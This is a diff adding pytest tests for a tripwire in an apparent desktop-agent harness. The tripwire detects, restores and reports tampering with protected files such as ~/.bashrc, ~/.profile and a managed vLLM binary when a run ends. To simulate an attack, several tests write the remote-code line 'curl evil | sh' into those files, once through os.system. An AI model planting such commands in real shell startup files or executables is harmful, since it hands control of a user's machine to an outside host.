@@ -372,3 +372,138 @@ def test_holodesks_model_server_and_the_models_files_are_in_the_set_by_their_sta
     entries = {e.path: e.guard for e in protected.protected_entries(Settings())}
     assert entries.get(home.root / "hub" / "models--Hcompany--Holotron-12B") is (
         tripwire.Guard.IDENTITY)
+
+
+# -- as the run ends --------------------------------------------------------------------------
+
+
+def _no_inotify(monkeypatch: pytest.MonkeyPatch) -> None:
+    def unavailable() -> None:
+        raise InotifyUnavailable("inotify is off in this test")
+
+    monkeypatch.setattr(tripwire, "Inotify", unavailable)
+
+
+def test_a_change_found_as_a_stopped_run_ends_is_put_back_and_in_its_reason(
+        home: Home, harness_for: HarnessFor, monkeypatch: pytest.MonkeyPatch) -> None:
+    """The person stops the run (the latch is pulled first, by them); the last look still
+    compares, puts ~/.bashrc back and the reason the run ended says so after the stop."""
+    _no_inotify(monkeypatch)
+    rc = home.root / ".bashrc"
+
+    def model(request: ChatRequest) -> str:
+        if len(server.requests) == 2:
+            rc.write_text("curl evil | sh\n")
+            h.latch.stop("user", "stopped by you")
+        return policy(request)
+
+    policy = ScriptedPolicy([CLICK, CLICK, ANSWER])
+    with FakeVLLM(model) as server:
+        h = harness_for(server)
+        h.parts.finder = FakeTargetFinder(focus=EDITOR)
+        session = _session(h)
+        session.watch_protected_files(h.parts.finder, watch=False)
+        finished = _run(session, h)
+    assert finished.outcome is Outcome.STOPPED
+    assert rc.read_text() == "alias ll='ls -l'\n"
+    assert finished.reason.startswith("stopped by user: stopped by you; then protected files "
+                                      "changed while Mousepad was in front: "), finished.reason
+    assert f"{rc} modified, restored" in finished.reason
+    assert session.after_close == []
+
+
+def test_a_change_after_the_last_look_is_told_as_the_session_closes_and_not_recorded(
+        home: Home, harness_for: HarnessFor, monkeypatch: pytest.MonkeyPatch) -> None:
+    """After the last look nothing puts a change back (the run has ended): it is told as the
+    session closes, and the record keeps what the tripwire verified, so the next run tells it
+    too."""
+    _no_inotify(monkeypatch)
+    rc = home.root / ".profile"
+    rc.write_text("PATH=$HOME/bin:$PATH\n")
+
+    def act(event: Event) -> None:
+        if isinstance(event, RunFinished):
+            rc.write_text("curl evil | sh\n")
+
+    with FakeVLLM(ScriptedPolicy([ANSWER])) as server:
+        h = harness_for(server)
+        h.on_event = act
+        session = _session(h)
+        session.watch_protected_files(FakeTargetFinder(focus=EDITOR), watch=False)
+        finished = _run(session, h)
+    assert finished.outcome is Outcome.ANSWERED
+    [said] = session.after_close
+    assert said.startswith("protected files changed after the run's last look") and (
+        f"{rc} modified" in said), said
+    assert [n.path for n in protected.changed_since_last_run(Settings())] == [str(rc)]
+
+
+def test_the_last_look_compares_even_a_large_tree_it_left_for_later(
+        home: Home, harness_for: HarnessFor, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A large IDENTITY tree (the managed vLLM environment) is compared only now and then
+    after an action; the run's last look compares it whatever the time."""
+    _no_inotify(monkeypatch)
+    monkeypatch.setattr(tripwire.Tripwire, "_due", lambda self, index: False)
+    vllm = home.data / "holodesk" / "vllm-env" / "bin" / "vllm"
+    vllm.parent.mkdir(parents=True)
+    vllm.write_text("#!/usr/bin/python3\n")
+
+    def act(event: Event) -> None:
+        if isinstance(event, ActionExecuted):
+            with vllm.open("a") as f:
+                f.write("import os; os.system('curl evil | sh')\n")
+
+    with FakeVLLM(ScriptedPolicy([CLICK, ANSWER])) as server:
+        h = harness_for(server)
+        h.on_event = act
+        session = _session(h)
+        session.watch_protected_files(FakeTargetFinder(focus=EDITOR), watch=False)
+        finished = _run(session, h)
+    assert finished.outcome is Outcome.STOPPED, finished
+    assert f"{vllm} modified, not restored (holodesk keeps no copy" in finished.reason
+
+
+def test_holodesk_run_prints_a_change_after_the_last_look_once_the_run_closed(
+        home: Home, harness_for: HarnessFor, monkeypatch: pytest.MonkeyPatch,
+        capsys: pytest.CaptureFixture[str]) -> None:
+    """`holodesk run` (app/cli/run.py) with the real session over the stand-in model: what
+    changed after the last look is a warning line once the run is over."""
+    import contextlib
+    from collections.abc import Callable, Iterator
+
+    import app.session
+    from app import runner
+    from app.cli.run import run_task
+
+    _no_inotify(monkeypatch)
+    rc = home.root / ".bashrc"
+
+    @contextlib.contextmanager
+    def no_hotkey(combo: str, latch: object) -> Iterator[bool]:
+        yield True
+
+    with FakeVLLM(ScriptedPolicy([ANSWER])) as server:
+        h = harness_for(server)
+
+        def build(settings: Settings, **_kwargs: object) -> Session:
+            session = _session(h)
+            session.watch_protected_files(FakeTargetFinder(focus=EDITOR), watch=False)
+            run = session.run
+
+            def run_and_write(emit: Callable[[Event], None]) -> RunFinished:
+                def then_write(event: Event) -> None:
+                    emit(event)
+                    if isinstance(event, RunFinished):  # after the last look
+                        rc.write_text("curl evil | sh\n")
+
+                return run(then_write)
+
+            session.run = run_and_write  # type: ignore[method-assign]
+            return session
+
+        monkeypatch.setattr(app.session, "build_session", build)
+        monkeypatch.setattr(runner, "stop_hotkey", no_hotkey)
+        assert run_task(Settings(), "look at the screen") == 0
+    said = capsys.readouterr().err
+    assert "warning: protected files changed after the run's last look" in said, said
+    assert f"{rc} modified" in said
